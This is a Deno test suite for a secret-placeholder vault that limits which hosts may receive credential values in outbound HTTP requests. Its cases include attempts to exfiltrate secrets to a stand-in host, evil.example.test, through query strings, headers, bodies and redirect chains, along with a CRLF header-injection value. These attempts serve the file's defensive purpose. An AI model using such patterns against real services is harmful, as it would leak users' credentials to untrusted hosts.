import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { startTestServer, toLoopback } from "../testing/http-server.ts";
import { openLoopback, OTHER_GUILD, refusalOf } from "../testing/loopback.ts";
import { fetchWhole } from "../testing/fetch-whole.ts";
import { createSecretVault } from "./vault.ts";

const VALUE = 'k"ey/ä+1:2';
const secrets = [{ name: "api", value: VALUE, allowedHosts: ["api.example.test", "*.trusted.test"] }];
const open = () => openLoopback({ http: toLoopback, secrets });
const base64 = (text: string) => Buffer.from(text).toString("base64");

Deno.test("secrets leave in URL, headers, Basic credentials and body, each spelt for its place", async () => {
  await using server = await startTestServer();
  await using loop = await open();
  const { api } = loop.context.secrets.placeholders();
  const url = `http://api.example.test:${server.port}`;
  const send = (contentType: string, body: string | Uint8Array) =>
    fetchWhole(loop, {
      url,
      method: "POST",
      headers: [["content-type", contentType]],
      bodyBase64: Buffer.from(body).toString("base64"),
    });
  await fetchWhole(loop, {
    url: `${url}/bot${api}/send?key=${api}`,
    headers: [["x-key", `K ${api}`], ["authorization", `Basic ${base64(`user:${api}`)}`]],
  });
  const [seen] = server.seen;
  assert.equal(seen!.url, "/botk%22ey%2F%C3%A4%2B1:2/send?key=k%22ey%2F%C3%A4%2B1:2");
  assert.equal(Buffer.from(seen!.headers["x-key"] as string, "latin1").toString(), `K ${VALUE}`);
  assert.equal(seen!.headers.authorization, `Basic ${base64(`user:${VALUE}`)}`);
  await send("application/json", JSON.stringify({ key: api }));
  assert.deepEqual(JSON.parse(server.seen.at(-1)!.body), { key: VALUE });
  await send("application/x-www-form-urlencoded", `key=${api}&x=1`);
  assert.equal(new URLSearchParams(server.seen.at(-1)!.body).get("key"), VALUE);
  await send("text/plain; charset=utf-8", `ü ${api}`);
  assert.equal(server.seen.at(-1)!.body, `ü ${VALUE}`);
  assert.equal(server.seen.at(-1)!.headers["content-length"], String(Buffer.byteLength(`ü ${VALUE}`)));
});

Deno.test("secrets stay when the host is not theirs, wherever the placeholder stands", async () => {
  await using server = await startTestServer();
  await using loop = await open();
  const { api } = loop.context.secrets.placeholders();
  const url = `http://evil.example.test:${server.port}/`;
  const attempts = [
    { url: `${url}?k=${api}` },
    { url: `${url}${api}` },
    { url, headers: [["x-key", api!]] as [string, string][] },
    { url, headers: [["authorization", `Basic ${base64(`u:${api}`)}`]] as [string, string][] },
    { url, method: "POST", bodyBase64: base64(`{"k":"${api}"}`) },
    { url: `http://api.example.test.evil.test:${server.port}/?k=${api}` },
    { url: `http://trusted.test:${server.port}/?k=${api}` },
    {
      url: `http://127.0.0.1:${server.port}/?k=${api}`,
      headers: [["x-host", "api.example.test"]] as [string, string][],
    },
  ];
  for (const attempt of attempts) {
    const refused = await refusalOf(fetchWhole(loop, attempt));
    assert.equal(refused.code, "SECRET_HOST_FORBIDDEN", JSON.stringify(attempt));
    assert.equal(refused.message.includes(VALUE), false);
  }
  assert.equal(server.connections(), 0);
});

Deno.test("secrets do not leave over plain http to the internet, nor with a line end in a header", async () => {
  await using plain = await openLoopback({ secrets, http: { resolve: async () => ["8.8.8.8"] } });
  const { api } = plain.context.secrets.placeholders();
  const refused = await refusalOf(
    fetchWhole(plain, { url: "http://api.example.test/", headers: [["x-key", api!]] }),
  );
  assert.equal(refused.code, "SECRET_HOST_FORBIDDEN");
  await using loop = await openLoopback({
    http: toLoopback,
    secrets: [{ name: "pem", value: "two\r\nlines", allowedHosts: ["api.example.test"] }],
  });
  const { pem } = loop.context.secrets.placeholders();
  const injected = await refusalOf(
    fetchWhole(loop, { url: "http://api.example.test/", headers: [["x-key", pem!]] }),
  );
  assert.equal(injected.code, "INVALID_ARGUMENT");
});

Deno.test("secrets of another guild and forged placeholders leave as the text they are", async () => {
  await using server = await startTestServer();
  await using loop = await open();
  const foreign = createSecretVault(secrets, { guildId: OTHER_GUILD }).placeholders().api!;
  const forged = `flora_secret_${"a".repeat(32)}`;
  await fetchWhole(loop, { url: `http://api.example.test:${server.port}/${foreign}/${forged}` });
  assert.equal(server.seen[0]!.url, `/${foreign}/${forged}`);
});

Deno.test("secrets are judged again at every redirect, and not passed on in an address", async () => {
  await using server = await startTestServer(({ url, headers }, response) => {
    const to = new URL(url, "http://x").searchParams.get("to");
    if (!to) return response.end("end");
    const location = to.replace("{key}", String(headers["x-key"] ?? ""));
    response.writeHead(302, { location }).end();
  });
  await using loop = await openLoopback({
    http: toLoopback,
    secrets: [{ name: "api", value: "plain-value", allowedHosts: ["api.example.test", "*.trusted.test"] }],
  });
  const { api } = loop.context.secrets.placeholders();
  const go = (to: string) =>
    fetchWhole(loop, {
      url: `http://api.example.test:${server.port}/?to=${encodeURIComponent(to)}`,
      headers: [["x-key", api!]],
    });
  const allowed = await go(`http://a.trusted.test:${server.port}/`);
  assert.equal(allowed.redirected, true);
  assert.equal(server.seen.at(-1)!.headers["x-key"], "plain-value");
  const before = server.seen.length;
  const custom = await refusalOf(go(`http://evil.example.test:${server.port}/`));
  assert.equal(custom.code, "SECRET_HOST_FORBIDDEN");
  const openRedirect = `http://api.example.test:${server.port}/?to=${
    encodeURIComponent(`http://evil.example.test:${server.port}/?k=`)
  }`;
  const passedOn = await refusalOf(fetchWhole(loop, { url: `${openRedirect}${api}` }));
  assert.equal(passedOn.code, "SECRET_HOST_FORBIDDEN");
  assert.equal(server.seen.length, before + 2, "evil.example.test was never asked");
  const echoed = await go(`/?k={key}`);
  assert.equal(echoed.url.includes("plain-value"), false);
});

Deno.test("secrets echoed by the other side are scrubbed from headers and body", async () => {
  await using server = await startTestServer(({ headers }, response) => {
    const key = Buffer.from(headers["x-key"] as string, "latin1").toString();
    response.setHeader("x-echo", encodeURIComponent(key));
    response.end(JSON.stringify({ plain: "ü", key }));
  });
  await using loop = await open();
  const { api } = loop.context.secrets.placeholders();
  const response = await fetchWhole(loop, {
    url: `http://api.example.test:${server.port}/`,
    headers: [["x-key", api!]],
  });
  const body = Buffer.from(response.bodyBase64, "base64").toString();
  assert.deepEqual(JSON.parse(body), { plain: "ü", key: "***" });
  assert.deepEqual(response.headers.find(([name]) => name === "x-echo"), ["x-echo", "***"]);
});
